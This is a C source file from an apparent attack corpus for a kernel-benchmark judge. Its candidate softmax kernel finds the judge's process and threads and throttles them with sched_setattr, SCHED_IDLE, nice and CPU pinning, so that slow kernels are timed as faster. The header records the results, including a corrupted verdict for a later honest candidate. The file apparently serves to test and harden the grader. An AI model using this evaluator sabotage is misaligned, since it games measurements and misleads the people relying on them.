/* Attack corpus: slows the JUDGE down instead of speeding itself up. On its first call it finds the
 * judge (getppid()) and every thread of the judge's process group and session (getpgid/getsid on
 * pids around the judge's: no /proc needed), and changes their scheduling from outside, with system
 * calls the seccomp filter does not list and Landlock does not scope:
 *   - as root (CAP_SYS_NICE survives no_new_privs): sched_setattr(SCHED_DEADLINE, 100 us every 1 ms,
 *     reset-on-fork), so the judge runs at about a tenth of a core;
 *   - otherwise (or if that fails): SCHED_IDLE + nice 19 and all of them pinned to CPU 0, so any other
 *     process on the machine (the search's compiles, other jobs) preempts eager, and two eager OpenMP
 *     threads share one core.
 * The runner pins itself to the last CPU. Its own work is an honest but slow softmax (3 passes),
 * really slower than eager. Eager, timed in the throttled judge with perf_counter, reads several times
 * its real time; the candidate's clock is honest and passes the CPU-time branch of clocks_agree
 * (the judge's wall clock is inflated too, so that branch decides). What it would gain: FASTER for a
 * kernel slower than eager, and the change PERSISTS in the judge: every later candidate of every card
 * evaluated by this judge is timed against a throttled eager (honest slow kernels judged FASTER).
 * Define NO_ATTACK for the control (same kernel, nothing done to the judge).
 * RESULT (review 3): SLOWER 3 of 3 (0.076x control; 0.122x, 0.113x, 0.166x attacked): DL 100 us/1 ms from
 * validation on keeps K small and short batches count at the judge's inflated clock, and a 13x slower
 * kernel is too slow to win; but the DL policy was verified on the judge's threads afterwards, and the
 * next honest candidate was timed at 873 us instead of 34 us (verdict changed). See attack_deadline_judge.c.
 */
#define _GNU_SOURCE
#include "kforge.h"
#include <math.h>
#include <stdint.h>
#include <string.h>
#include <errno.h>
#include <sched.h>
#include <unistd.h>
#include <sys/resource.h>
#include <sys/syscall.h>

struct kf_sched_attr { uint32_t size, policy; uint64_t flags; int32_t nice; uint32_t prio;
                       uint64_t runtime, deadline, period; uint32_t umin, umax; };

static void throttle(pid_t t) {
#ifndef NO_ATTACK
    struct kf_sched_attr a; memset(&a, 0, sizeof a);
    a.size = sizeof a; a.policy = 6 /* SCHED_DEADLINE */; a.flags = 1 /* RESET_ON_FORK */;
    a.runtime = 100000; a.deadline = 1000000; a.period = 1000000;
    if (syscall(SYS_sched_setattr, t, &a, 0) == 0) return;
    struct sched_param sp; memset(&sp, 0, sizeof sp);
    sched_setscheduler(t, 5 /* SCHED_IDLE */, &sp);
    setpriority(PRIO_PROCESS, t, 19);
    cpu_set_t s; CPU_ZERO(&s); CPU_SET(0, &s);
    sched_setaffinity(t, sizeof s, &s);
#else
    (void)t;
#endif
}

static int done = 0;
static void attack(void) {
    if (done) return;
    done = 1;
    pid_t pp = getppid(), pg = getpgid(pp), sid = getsid(pp);
    throttle(pp);
    for (pid_t t = pp + 1; t < pp + 2048; ++t)
        if (getpgid(t) == pg && getsid(t) == sid) throttle(t);
#ifndef NO_ATTACK
    long n = sysconf(_SC_NPROCESSORS_ONLN);
    cpu_set_t s; CPU_ZERO(&s); CPU_SET(n > 1 ? n - 1 : 0, &s);
    sched_setaffinity(0, sizeof s, &s);
#endif
}

static void softmax_row(const float* xr, float* yr, int64_t cols) {
    float m = KF_NEG_INF, s = 0.f;
    for (int64_t c = 0; c < cols; ++c) m = xr[c] > m ? xr[c] : m;
    for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); s += yr[c]; }
    for (int64_t c = 0; c < cols; ++c) yr[c] /= s;
}

KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out,
                       const double* params, int n_params, void* workspace, void* stream) {
    attack();
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data;
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1;
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];
    for (int rep = 0; rep < 3; ++rep)
        for (int64_t r = 0; r < rows; ++r) softmax_row(x + r * cols, y + r * cols, cols);
    return 0;
}
